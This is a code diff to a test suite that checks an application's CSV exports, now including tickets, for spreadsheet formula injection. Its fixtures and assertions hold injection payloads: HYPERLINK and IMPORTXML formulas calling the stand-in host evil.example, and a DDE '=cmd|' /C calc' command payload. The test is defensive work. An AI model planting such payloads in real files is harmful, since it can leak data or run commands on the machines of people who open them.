@@ -51,13 +51,20 @@ for (const engine of ENGINES) {
         }),
       );
       await ok(
+        codex.call("admin", "POST", "/api/tickets", {
+          company: "ACME-001",
+          subject: '=HYPERLINK("http://evil.example","Open")',
+          description: "@SUM(1+1)",
+        }),
+      );
+      await ok(
         codex.call("admin", "POST", "/api/companies/ACME-001/line-items", {
           name: '=IMPORTXML("http://evil.example","//a")',
           kind: "monthly",
           amount_cents: -500,
         }),
       );
-    });
+    }, 30_000);
     afterAll(() => codex.stop());
 
     const text = async (path: string, level: "technician" | "billing" = "technician") => {
@@ -73,10 +80,13 @@ for (const engine of ENGINES) {
         ),
       );
 
-    test("companies, contacts and assets exports, list and JSON cells included", async () => {
+    test("companies, contacts, assets and tickets exports, list and JSON cells included", async () => {
       const files: Record<string, string> = {};
-      for (const kind of ["companies", "contacts", "assets"]) files[kind] = await text(`/api/${kind}/export.csv`);
+      for (const kind of ["companies", "contacts", "assets", "tickets"])
+        files[kind] = await text(`/api/${kind}/export.csv`);
       expect(Object.entries(files).flatMap(([f, csv]) => formulaCells(f, csv))).toEqual([]);
+      expect(files.tickets).toContain(`"'=HYPERLINK(""http://evil.example"",""Open"")"`);
+      expect(files.tickets).toContain("'@SUM(1+1)");
       expect(files.companies).toContain(`'=cmd|' /C calc'!A0;+1+1;acme.example;@SUM(1+1)`);
       expect(files.contacts).toContain("'-2+3@evil.example;+cmd@evil.example");
       expect(files.contacts).toContain("'-Mallory");
